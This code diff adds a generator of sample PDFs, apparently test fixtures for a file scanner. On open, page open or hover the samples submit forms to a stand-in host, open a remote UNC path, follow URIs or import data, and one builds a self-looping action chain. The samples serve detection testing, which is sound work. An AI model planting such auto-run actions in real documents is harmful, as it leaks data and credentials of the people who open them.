@@ -201,6 +201,45 @@ def active_pdf():
     yield "nut.pdf", making.pdf(change=with_note(act)), "script"
 
 
+def acting_pdf():
+    """What sends, fetches or leads elsewhere before anybody has clicked."""
+    far = Dictionary(FS=Name.URL, F=String("http://a.example/x"))
+    out = {
+        "gui": Dictionary(S=Name.SubmitForm, F=far),
+        "noi khac": Dictionary(S=Name.GoToR, F=String("\\\\10.0.0.1\\a\\b.pdf"), D=Array([0])),
+        "trang": Dictionary(S=Name.URI, URI=String("http://a.example/")),
+        "mach": Dictionary(S=Name.Thread, F=far, D=0),
+    }
+    for name, action in out.items():
+        yield f"{name}.pdf", making.pdf(change=with_root("OpenAction", action)), "reaches_out"
+    link = lambda: Dictionary(S=Name.URI, URI=String("http://a.example/"))
+    first = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([link()]))
+    yield "sau do.pdf", making.pdf(change=with_root("OpenAction", first)), "reaches_out"
+    yield "rieng.pdf", making.pdf(change=with_indirect(link())), "reaches_out"
+    yield "lat.pdf", making.pdf(change=with_page("AA", Dictionary(O=link()))), "reaches_out"
+    over = Dictionary(
+        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), AA=Dictionary(E=link())
+    )
+    yield "tro vao.pdf", making.pdf(change=with_note(over)), "reaches_out"
+    taken = Dictionary(S=Name.ImportData, F=far)
+    yield "nap.pdf", making.pdf(change=with_root("OpenAction", taken)), "launch"
+
+
+def with_indirect(action):
+    """The action stands apart and is followed by itself, so that reading it could go on for ever."""
+
+    def change(book):
+        apart = book.make_indirect(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))
+        apart.Next = Array([apart, book.make_indirect(action)])
+        book.Root.OpenAction = apart
+
+    return change
+
+
+def with_page(key, value):
+    return lambda book: book.pages[0].__setitem__(f"/{key}", value)
+
+
 def with_root(key, value):
     return lambda book: book.Root.__setitem__(f"/{key}", value)
 
@@ -247,6 +286,7 @@ FAMILIES = {
         xml,
         active_office,
         active_pdf,
+        acting_pdf,
         encrypted,
         images,
     )
